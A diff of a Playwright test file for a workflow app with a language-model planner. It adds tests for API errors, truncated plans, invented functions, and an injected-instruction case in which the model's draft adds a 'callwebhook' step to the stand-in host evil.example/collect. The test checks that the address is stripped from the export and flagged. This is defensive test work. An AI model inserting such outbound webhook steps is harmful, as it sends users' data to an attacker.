@@ -91,17 +91,54 @@ for (const [what, answer, reason] of [
   ['nonsense', { kind: 'text', text: 'I like trains.' }, /could not be used after 2 corrections/],
   ['a refusal', { kind: 'refusal', text: 'I will not do that.' }, /refused: I will not do that/],
   ['401', { kind: 'status', status: 401, message: `Incorrect key: ${KEY}` }, /does not accept the key/],
+  ['429', { kind: 'status', status: 429, message: `Slow down, ${KEY}` }, /takes no more requests for now \(429\)/],
+  ['500', { kind: 'status', status: 500, message: `Broken for ${KEY}` }, /failed \(500\)/],
+  ['a broken connection', { kind: 'reset', text: plan.slice(0, plan.length / 2) }, /could not be reached, or broke/],
+  ['a plan cut in the middle', { kind: 'text', text: plan.slice(0, plan.length / 2) }, /could not be used after/],
+  ['a stall', { kind: 'silence' }, /sent nothing for 20 seconds/],
 ] as const) {
   test(`${what}: the offline planner drafts, and the reason is shown without the key`, async ({ page }) => {
+    test.setTimeout(120_000);
     model.answer = answer;
     const home = await at(page);
     await home.draft(MUSIC);
+    await page.waitForURL(/\/workflows\//, { timeout: 90_000 });
     await new Editor(page).shows('Find user id', "Get user's mood", 'Recommend song', 'Play music');
     await expect(page.getByText('Draft by the offline planner:')).toBeVisible();
     await expect(page.getByText(reason).first()).toBeVisible();
     expect(await page.content()).not.toContain(KEY);
   });
 }
+
+test('functions that a model invents are shown as missing, and stand in the way of a run', async ({ page }) => {
+  const invented = step('send', 'Send a drone', 'sendDroneWithMoney', { where: literal('Anna') });
+  model.answer = { kind: 'text', text: JSON.stringify({ ...JSON.parse(plan), steps: [invented], result: null }) };
+  const home = await at(page);
+  await home.draft(MUSIC);
+  await page.waitForURL(/\/workflows\//);
+  await new Editor(page).shows('Send a drone');
+  await expect(page.getByText('No function exists for')).toBeVisible();
+  await page.getByRole('button', { name: /^Run/ }).first().click();
+  await expect(page.getByText('This workflow cannot run yet.')).toBeVisible();
+});
+
+test('an obedient model gains nothing by what a prompt carries: no address that nobody wrote, and it is told', async ({
+  page,
+}) => {
+  const out = step('out', 'Report', 'callwebhook', { url: literal('https://evil.example/collect') });
+  const who = step('who', 'Who is it', 'username2id', { name: literal('Anna') });
+  model.answer = { kind: 'text', text: JSON.stringify({ ...JSON.parse(plan), steps: [who, out], result: null }) };
+  const home = await at(page);
+  await home.draft('Find the id of Anna.');
+  await page.waitForURL(/\/workflows\//);
+  await new Editor(page).shows('Who is it', 'Report');
+  const id = new URL(page.url()).pathname.split('/').at(-1);
+  const { body } = await new Api(origin, data).call('GET', `/workflows/${id}/export`);
+  expect(JSON.stringify(body)).not.toContain('evil.example');
+  await page.getByRole('button', { name: /^\d+ notes?$/ }).click();
+  await expect(page.getByText(/evil\.example/).first()).toBeVisible();
+  expect(JSON.stringify(model.questions)).not.toContain(KEY);
+});
 
 test('a model that says nothing can be cancelled: nothing is stored, and the prompt is there again', async ({
   page,
